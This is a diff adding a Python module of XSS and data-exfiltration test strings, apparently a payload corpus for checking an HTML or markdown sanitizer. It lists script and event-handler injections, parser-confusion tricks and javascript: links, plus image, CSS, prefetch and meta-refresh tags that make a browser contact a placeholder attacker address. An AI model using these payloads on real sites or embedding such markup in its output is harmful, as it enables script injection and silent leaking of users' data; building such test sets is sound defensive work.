@@ -1,0 +1,53 @@
+"""Texts that want to run a script (`XSS`) or to make the browser tell somebody (`EXFILTRATION`); `{a}` is the attacker's address."""
+
+from __future__ import annotations
+
+XSS = (
+    "<script>hit()</script>",
+    "<script src={a}/x.js></script>",
+    "<img src=x onerror=hit()>",
+    '"><img src=x onerror="hit()">',
+    "<svg onload=hit()>",
+    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=hit()>\">",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit()&gt;\">",
+    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<iframe src=javascript:parent.hit()></iframe>",
+    "<details open ontoggle=hit()><summary>x</summary></details>",
+    "<input autofocus onfocus=hit()>",
+    "<body onload=hit()>",
+    "<video><source onerror=hit()></video>",
+    "<object data=javascript:hit()></object>",
+    "<form><button formaction=javascript:hit()>press</button></form>",
+    "[press](javascript:hit())",
+    "[press](jav&#x09;ascript:hit())",
+    "[press](data:text/html,<script>hit()</script>)",
+    "<a href=\" &#14; javascript:hit()\">press</a>",
+    '" onmouseover="hit()" x="',
+    "' autofocus onfocus='hit()",
+    "$$\\href{{javascript:hit()}}{{press}}$$",
+    "```html\n<img src=x onerror=hit()>\n```",
+    "</textarea><script>hit()</script>",
+    "<xss contenteditable onblur=hit() onmouseenter=hit()>hover</xss>",
+    "&lt;img src=x onerror=hit()&gt;",
+)  # fmt: skip
+
+EXFILTRATION = (
+    "![x]({a}/markdown.png)",
+    "![x][r]\n\n[r]: {a}/reference.png",
+    "<img src={a}/image.png>",
+    "<img srcset='{a}/set.png 1x'>",
+    "<div style='background:url({a}/style.png)'>x</div>",
+    "<style>@import url({a}/import.css); body {{ background: url({a}/body.png) }}</style>",
+    "<link rel=stylesheet href={a}/sheet.css>",
+    "<link rel=prefetch href={a}/prefetch>",
+    "<meta http-equiv=refresh content='0;url={a}/meta'>",
+    "<base href={a}/>",
+    "<iframe src={a}/frame></iframe>",
+    "<video poster={a}/poster.png src={a}/video.mp4 autoplay></video>",
+    "<audio src={a}/sound.mp3 autoplay></audio>",
+    "<svg><image href={a}/svg.png /><use href={a}/use.svg#x /></svg>",
+    "<table background={a}/table.png><tr><td>x</td></tr></table>",
+    "<object data={a}/object></object><embed src={a}/embed>",
+)  # fmt: skip
